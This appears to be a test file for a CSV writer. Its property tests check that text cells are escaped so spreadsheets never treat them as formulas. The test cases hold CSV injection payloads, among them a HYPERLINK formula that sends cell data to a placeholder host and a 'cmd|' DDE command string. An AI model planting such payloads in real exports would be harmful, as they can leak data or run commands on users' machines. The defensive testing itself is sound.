import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { papaRecords } from '../../../shared/csv/papa-records.ts'
import { csvLine, writeCsv, type CsvCell } from '../../../shared/csv/write-csv.ts'
import { readPieces } from './reading.ts'

const text = (cell: string): CsvCell => ({ kind: 'text', text: cell })
const number = (cell: string): CsvCell => ({ kind: 'number', text: cell })

describe('text cells', () => {
  it.each([
    { why: 'a plain name stays', cell: 'Claude Opus 4.8', out: 'Claude Opus 4.8' },
    { why: 'a comma is quoted', cell: 'a,b', out: '"a,b"' },
    { why: 'a quote is doubled', cell: 'say "hi"', out: '"say ""hi"""' },
    { why: 'a line end becomes a space', cell: 'a\r\nb\n,=1+1', out: '"a b ,=1+1"' },
    { why: 'a semicolon is quoted', cell: 'a;=1+1', out: '"a;=1+1"' },
    {
      why: 'a formula gets an apostrophe',
      cell: '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
      out: `"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Open"")"`,
    },
    { why: 'a plus too', cell: "+cmd|' /C calc'!A0", out: "'+cmd|' /C calc'!A0" },
    { why: 'a minus too', cell: '-1+1', out: "'-1+1" },
    { why: 'an at sign too', cell: '@SUM(1+1)*cmd|x', out: "'@SUM(1+1)*cmd|x" },
    { why: 'a tab too', cell: '\t=1', out: `"'\t=1"` },
    { why: 'a carriage return too', cell: '\r=1', out: "' =1" },
    { why: 'a formula behind spaces too', cell: ' =1', out: "' =1" },
    { why: 'a formula behind a line end too', cell: '\n=1', out: "' =1" },
    { why: 'a full-width formula too', cell: '＝1+1', out: "'＝1+1" },
    { why: 'spaces at the edges are kept by quotes', cell: ' a ', out: '" a "' },
    { why: 'a negative number that is text is protected', cell: '-12.5', out: "'-12.5" },
  ])('$why', ({ cell, out }) => {
    expect(csvLine([text(cell)])).toBe(`${out}\r\n`)
  })
})

describe('number cells', () => {
  it.each(['0', '-12.5', '1e-7', '123456789012345678901234567890.5', ''])('writes %s', (cell) => {
    expect(csvLine([number(cell), number('1')])).toBe(`${cell},1\r\n`)
  })

  it.each(['=1', '+1', '1,5', '-', 'abc', '-1+1'])('refuses %s', (cell) => {
    expect(() => csvLine([number(cell)])).toThrow(RangeError)
  })
})

describe('a written table', () => {
  const cell = fc.string({
    unit: fc.constantFrom('a', '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', ' ', "'"),
    maxLength: 8,
  })
  const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { maxLength: 5 })

  it('reads back with the same shape and no cell that starts a formula', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const csv = writeCsv(rows.map((row) => row.map(text)))
        const reading = readPieces(papaRecords({ delimiter: ',', lineEnd: '\n' }), [csv])
        expect(reading.faults).toEqual([])
        expect(reading.rows.map((row) => row.length)).toEqual(rows.map((row) => row.length))
        expect(reading.rows.flat().filter((read) => /^\s*[=+\-@]|^[\t\r]/.test(read))).toEqual([])
      }),
      { numRuns: 1000 },
    )
  })

  it('shows no cell that starts a formula to a program that splits at line ends and at separators', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const csv = writeCsv(rows.map((row) => row.map(text)))
        const naive = csv
          .split(/\r?\n/)
          .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,;\t]*)(?=[,;\t]|$)/g) ?? [])
          .map((read) => read.replace(/^"/, ''))
        expect(naive.filter((read) => /^[=+@\t]/.test(read))).toEqual([])
      }),
      { numRuns: 1000 },
    )
  })
})
